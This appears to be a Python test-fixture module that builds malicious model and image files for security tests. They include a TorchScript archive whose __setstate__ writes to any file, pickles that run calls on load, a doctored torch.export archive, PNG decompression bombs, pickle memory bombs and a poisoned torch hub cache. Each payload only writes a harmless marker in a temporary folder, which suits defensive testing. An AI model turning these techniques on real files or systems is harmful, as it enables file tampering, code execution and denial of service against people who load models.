"""Files that run code when opened the wrong way; each writes a marker file as its proof.

The TorchScript one is the real attack of issue 7: a scripted ``__setstate__`` that opens
any path with ``torch.from_file(..., shared=True)`` and writes bytes into it; here the
path is a harmless marker in the test's temporary folder.
"""

from __future__ import annotations

import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

import torch
from torch import nn

MARKER_BYTES = [80, 87, 78, 10]  # "PWN\n"


class MarkerWriter(nn.Module):
    """Scripted, its ``__setstate__`` runs inside ``torch.jit.load`` and writes ``marker``."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.weight = nn.Parameter(torch.ones(3))
        self.scratch = torch.zeros(4, dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.weight

    @torch.jit.export
    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
        return (self.marker, self.weight, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
        self.marker = state[0]
        self.weight = state[1]
        self.training = state[2]
        written = torch.from_file(self.marker, shared=True, size=4, dtype=torch.uint8)
        written.copy_(torch.tensor([80, 87, 78, 10], dtype=torch.uint8))
        self.scratch = written  # kept, so the compiler cannot drop the write as dead code


class _Touch:
    """Unpickling this creates ``marker``."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


def torchscript_archive(path: Path, marker: Path) -> Path:
    torch.jit.script(MarkerWriter(str(marker))).save(str(path))
    return path


def pickle_file(path: Path, marker: Path) -> Path:
    path.write_bytes(pickle.dumps(_Touch(str(marker))))
    return path


def export_program(path: Path, marker: Path) -> Path:
    """A real ``torch.export.save`` archive whose first weight is switched to a pickle:
    ``torch.export.load`` unpickles it with ``weights_only=False``."""
    clean = path.with_name(path.name + ".clean.pt2")
    program = torch.export.export(nn.Sequential(nn.Linear(2, 2)), (torch.zeros(1, 2),))
    torch.export.save(program, str(clean))
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("weights/model_weights_config.json"):
                config = json.loads(data)
                config["config"]["0.weight"]["use_pickle"] = True
                data = json.dumps(config).encode()
            elif info.filename.endswith("weights/weight_0"):
                data = pickle.dumps(_Touch(str(marker)))
            target.writestr(info, data)
    clean.unlink()
    return path


def clean_export_program(path: Path) -> Path:
    program = torch.export.export(nn.Sequential(nn.Linear(2, 3)), (torch.zeros(1, 2),))
    torch.export.save(program, str(path))
    return path


def png_claiming(width: int, height: int) -> bytes:
    """A valid PNG header claiming ``width``×``height`` 1-bit pixels: a few dozen bytes (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


# --- memory bombs: a few bytes that ask torch's safe loader for gigabytes (issue 21) -----------

TIB = 2**40  # more than any machine can give: unfixed, the allocation fails at once instead of filling memory


def bytearray_bomb(path: Path, size: int = TIB) -> Path:
    """The issue's 33-byte checkpoint: ``bytearray(size)``, which ``torch.load(weights_only=True)`` allows."""
    path.write_bytes(b"\x80\x02cbuiltins\nbytearray\n\x8a" + _long1(size) + b"\x85R.")
    return path


def hidden_bytearray_bomb(path: Path, size: int = TIB) -> Path:
    """The same call with its names memoized and fetched back (protocol 4's ``STACK_GLOBAL``)."""
    names = b"\x8c\x08builtins\x94\x8c\tbytearray\x94"
    path.write_bytes(b"\x80\x04" + names + b"h\x00h\x01\x93\x8a" + _long1(size) + b"\x85R.")
    return path


def zip_bytearray_bomb(path: Path, size: int = TIB) -> Path:
    """A real ``torch.save`` zip whose ``data.pkl`` is the bomb."""
    clean = path.with_name(path.name + ".clean")
    torch.save({"w": torch.zeros(2)}, clean)
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("data.pkl"):
                data = b"\x80\x02cbuiltins\nbytearray\n\x8a" + _long1(size) + b"\x85R."
            target.writestr(info, data)
    clean.unlink()
    return path


def _long1(n: int) -> bytes:
    body = n.to_bytes((n.bit_length() + 8) // 8, "little")
    return bytes([len(body)]) + body


def poisoned_hub_cache(torch_home: Path, file_name: str, marker: Path) -> Path:
    """A pickle that creates ``marker``, saved where torch hub keeps ``file_name`` under ``torch_home``."""
    folder = torch_home / "hub" / "checkpoints"
    folder.mkdir(parents=True, exist_ok=True)
    return pickle_file(folder / file_name, marker)
